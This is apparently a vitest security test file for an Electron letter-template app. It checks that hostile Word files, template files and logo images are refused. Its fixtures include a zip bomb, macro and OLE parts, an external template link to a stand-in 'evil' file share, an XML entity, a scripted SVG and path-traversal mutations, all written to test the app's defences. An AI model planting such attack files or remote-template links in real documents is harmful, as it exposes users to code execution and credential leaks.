import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { strToU8, unzipSync, zipSync } from 'fflate'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { readLogoFile, readPaperFile } from '../../../electron/templates/choose-attachment'
import { readLibrary } from '../../../electron/templates/library'
import { ownTemplatesIn, readTemplateFile } from '../../../electron/templates/own-templates'
import { letterPaperWords } from '../../../letter/template/letter-paper-words'
import { duplicateTemplate } from '../../../letter/template/own-template'
import { serialiseTemplate } from '../../../letter/template/template-file'
import { dice, pick } from '../../support/dice'
import { logoOf, pngPicture } from '../../support/pictures'
import { shippedTemplate, templatesFolder } from '../../support/shipped-templates'

let root = ''
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'vijandig-'))
})
afterEach(() => rm(root, { recursive: true }))

const good = () => readFile(join(templatesFolder, 'briefpapier/voorbeeld.docx'))
const changed = async (parts: Record<string, Uint8Array>) => zipSync({ ...unzipSync(await good()), ...parts })

const outside = strToU8(
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" ' +
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
    'Target="file:///\\\\evil\\share\\x.dotm" TargetMode="External"/></Relationships>',
)

const payloads: readonly (readonly [string, () => Promise<Uint8Array>, string])[] = [
  ['a zip that bursts', () => changed({ 'word/media/x.bin': new Uint8Array(80_000_000) }), 'too-large'],
  ['no zip', () => Promise.resolve(strToU8('PK\u0003\u0004 dit is geen Word')), 'not-a-word-file'],
  ['a zip without a letter', () => Promise.resolve(zipSync({ 'a.txt': strToU8('a') })), 'not-a-word-file'],
  ['a macro', () => changed({ 'word/vbaProject.bin': strToU8('x') }), 'has-macro'],
  [
    'a macro by its declaration',
    async () => {
      const types = new TextDecoder().decode(unzipSync(await good())['[Content_Types].xml'])
      const named = types.replace('wordprocessingml.document.main', 'macroEnabled.main')
      return changed({
        '[Content_Types].xml': strToU8(
          named.replace(
            'application/vnd.openxmlformats-officedocument.',
            'application/vnd.ms-word.document.macroEnabled.',
          ),
        ),
      })
    },
    'has-macro',
  ],
  ['an object inside', () => changed({ 'word/embeddings/oleObject1.bin': strToU8('x') }), 'has-macro'],
  ['a template on a share', () => changed({ 'word/_rels/settings.xml.rels': outside }), 'has-outside-link'],
  [
    'an entity that grows',
    () => changed({ 'word/header9.xml': strToU8('<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>') }),
    'not-a-word-file',
  ],
  ['a password', () => Promise.resolve(Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0, 0)), 'locked-or-old'],
]

describe('letter paper of a stranger', () => {
  it.each(payloads)('with %s is refused with a sentence, alone and within a template', async (_, make, kind) => {
    const bytes = await make()
    const file = join(root, 'papier.docx')
    await writeFile(file, bytes)
    const read = await readPaperFile(file, true)
    if (read.ok || read.failure.kind !== 'not-usable-paper') throw new Error('accepted')
    expect(read.failure.why.kind).toBe(kind)
    expect(letterPaperWords(read.failure.why)).toMatch(/^[a-zé].{20,}/)

    const paper = { name: 'papier.docx', data: Buffer.from(bytes).toString('base64') }
    const template = { ...duplicateTemplate(shippedTemplate('antwoordbrief-defensie'), 'Van een ander'), paper }
    const own = join(root, 'eigen')
    expect((await ownTemplatesIn(own).save(template)).ok).toBe(false)
    await expect(readdir(own)).rejects.toThrow('ENOENT')
    await mkdir(join(root, 'sjablonen'))
    await writeFile(join(root, 'sjablonen', 'x.antwoordbriefsjabloon'), serialiseTemplate(template))
    expect((await readTemplateFile(join(root, 'sjablonen', 'x.antwoordbriefsjabloon'))).ok).toBe(false)
    const { templates, faults } = await readLibrary({ shipped: templatesFolder, shared: root, own })
    expect(templates).toHaveLength(60)
    expect(faults).toMatchObject([{ origin: 'shared' }])
  })

  it('500 mutated templates with a logo and letter paper: sound or refused, nothing written but what is sound', async () => {
    const paper = { name: 'papier.docx', data: Buffer.from(await good()).toString('base64') }
    const template = { ...duplicateTemplate(shippedTemplate('antwoordbrief-defensie'), 'Mutant'), paper }
    const text = serialiseTemplate({ ...template, logo: logoOf(pngPicture(20, 30)) })
    const throws = dice(20261124)
    const file = join(root, 'mutant.antwoordbriefsjabloon')
    const starts = [text.indexOf('"logo"'), text.indexOf('"paper"')]
    let refused = 0
    for (let round = 0; round < 500; round += 1) {
      // Half of the changes are in the picture or the paper, a third of those in what says what they are.
      const from =
        round % 2 === 0 ? throws(0, text.length - 1) : (starts[round % 4 === 1 ? 0 : 1] ?? 0) + throws(0, 299)
      const put = pick(throws, ['', 'A', '/', '"', '{{x}}', '../../x', '\u202E', 'PHN2Zz4='])
      await writeFile(file, text.slice(0, from) + put + text.slice(from + throws(0, 5)))
      const read = await readTemplateFile(file)
      if (!read.ok) refused += 1
      else expect((await ownTemplatesIn(join(root, 'eigen')).save(read.value.template)).ok).toBe(true)
    }
    expect(refused).toBeGreaterThan(150)
    expect((await readdir(root)).sort()).toEqual(['eigen', 'mutant.antwoordbriefsjabloon'])
    const { faults } = await readLibrary({ shipped: templatesFolder, own: join(root, 'eigen') })
    expect(faults).toEqual([])
  }, 120_000)
})

describe('a picture of a stranger', () => {
  it.each([
    ['a drawing with a script', strToU8('<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'), 'svg'],
    ['more pixels than memory', pngPicture(1, 9000), 'too-many-pixels'],
    ['a huge file', new Uint8Array(3_000_000), 'too-large'],
    ['a program', strToU8('MZ\u0090'), 'not-a-picture'],
  ])('%s is refused', async (_, bytes, kind) => {
    const file = join(root, 'logo.png')
    await writeFile(file, bytes)
    expect(await readLogoFile(file, 'Logo')).toEqual({ ok: false, failure: { kind: 'not-a-logo', why: { kind } } })
  })
})
